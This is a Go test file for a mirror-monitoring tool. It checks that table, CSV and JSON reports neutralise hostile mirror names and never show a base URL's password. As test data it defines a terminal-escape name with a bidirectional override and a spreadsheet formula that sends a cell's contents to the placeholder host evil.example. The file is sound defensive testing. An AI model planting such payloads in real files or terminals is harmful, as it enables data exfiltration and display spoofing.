package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/mirrorsentry/sentry/checks/safetext"
	"github.com/mirrorsentry/sentry/internal/testkit/world"
	"github.com/mirrorsentry/sentry/sentry/demo/localmirror"
	"github.com/mirrorsentry/sentry/sentry/report"
)

// Hostile names, as a mirror's admin may type them into mirror_mirrors.
const (
	// escapeName sets a terminal's title (OSC), rings its bell, returns
	// the cursor and reverses what follows.
	escapeName = "evil\x1b]0;pwned\x07\r\u202Egnp.exe"
	// formulaName is a formula a spreadsheet would run.
	formulaName = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	// password is in the base URL of the hostile mirror.
	password = "secretpass"
)

// TestReportsShowHostileTextAsHarmlessText: whatever a mirror's name and
// a check's detail hold, the tables print no escape, bell, carriage
// return or bidirectional override (they show them as visible text, and
// clip only after, so each line keeps its width), a CSV cell is never a
// formula, JSON keeps the values exact but escapes those characters, and
// no form shows the password of a base URL.
func TestReportsShowHostileTextAsHarmlessText(t *testing.T) {
	t.Parallel()
	w := world.New(t, nil)
	w.Static(t, "good1")
	w.Static(t, "good2")
	evil := world.Static(t, "evil", w.Rel)
	evil.Put(w.Rel, world.CorruptFile, localmirror.Flip(w.Rel.Files[world.CorruptFile]))
	withPassword := strings.Replace(evil.URL, "http://", "http://user:"+password+"@", 1)
	w.AddMirror(t, escapeName, withPassword, nil)
	w.AddMirror(t, formulaName, world.Static(t, "formula", w.Rel).URL, nil)
	w.Prime(t)
	w.Sweep(t, true)

	ctx := context.Background()
	now := time.Now()
	rep := report.New(w.Pool(), nil)
	ms, err := rep.Mirrors(ctx, report.Window{Since: now.Add(-time.Hour), Until: now.Add(time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	one, err := rep.Mirror(ctx, escapeName, report.Window{Since: now.Add(-time.Hour), Until: now.Add(time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	rel, err := rep.Release(ctx, "1.5")
	if err != nil {
		t.Fatal(err)
	}
	outputs := map[string]*bytes.Buffer{}
	write := func(name string, f func(*bytes.Buffer) error) {
		var b bytes.Buffer
		if err := f(&b); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		outputs[name] = &b
	}
	for _, wide := range []bool{false, true} {
		suffix := map[bool]string{false: "", true: " --wide"}[wide]
		write("mirrors table"+suffix, func(b *bytes.Buffer) error { return report.WriteMirrorsTable(b, ms, now, wide) })
		write("mirror table"+suffix, func(b *bytes.Buffer) error { return report.WriteMirrorTable(b, one, now, wide) })
		write("release table"+suffix, func(b *bytes.Buffer) error { return report.WriteReleaseTable(b, rel, now, wide) })
	}
	write("mirrors csv", func(b *bytes.Buffer) error { return report.WriteMirrorsCSV(b, ms) })
	write("mirror csv", func(b *bytes.Buffer) error { return report.WriteMirrorCSV(b, one) })
	write("release csv", func(b *bytes.Buffer) error { return report.WriteReleaseCSV(b, rel) })
	write("mirrors json", func(b *bytes.Buffer) error { return report.WriteJSON(b, ms) })
	write("mirror json", func(b *bytes.Buffer) error { return report.WriteJSON(b, one) })

	for name, b := range outputs {
		out := b.String()
		if strings.Contains(out, password) {
			t.Errorf("%s shows the base URL's password", name)
		}
		if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && safetext.Replaced(r) }); i >= 0 {
			t.Errorf("%s holds %q raw: …%q…", name, []rune(out[i:])[0], out[max(i-20, 0):min(i+20, len(out))])
		}
		switch {
		case strings.Contains(name, "table"):
			if !strings.Contains(out, "evil␛]0;pwned") {
				t.Errorf("%s does not show the name as visible text:\n%s", name, out)
			}
			if !strings.Contains(name, "wide") {
				for _, l := range strings.Split(out, "\n") {
					if n := utf8.RuneCountInString(l); n > 79 {
						t.Errorf("%s: a line of %d columns: %q", name, n, l)
					}
				}
			}
		case strings.Contains(name, "csv"):
			recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, rec := range recs {
				for _, cell := range rec {
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && cell != strings.TrimLeft(cell, "+-0123456789.") {
						t.Errorf("%s: cell %q is a formula", name, cell)
					}
				}
			}
		case strings.Contains(name, "json"):
			if !strings.Contains(out, `\u202e`) {
				t.Errorf("%s: the name's override is not escaped", name)
			}
		}
	}
	if !strings.Contains(outputs["mirrors csv"].String(), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`) {
		t.Errorf("the formula is not neutralised in the CSV:\n%s", outputs["mirrors csv"])
	}
	// JSON keeps the names exact (scripts find mirrors by them), and the
	// base URL without its password.
	var back report.Mirrors
	if err := json.Unmarshal(outputs["mirrors json"].Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, m := range back.Mirrors {
		if m.Name == escapeName {
			found = true
			if m.BaseURL != evil.URL {
				t.Errorf("baseurl %q, want %q (the password taken out)", m.BaseURL, evil.URL)
			}
		}
	}
	if !found {
		t.Error("the JSON lost the exact name")
	}
}
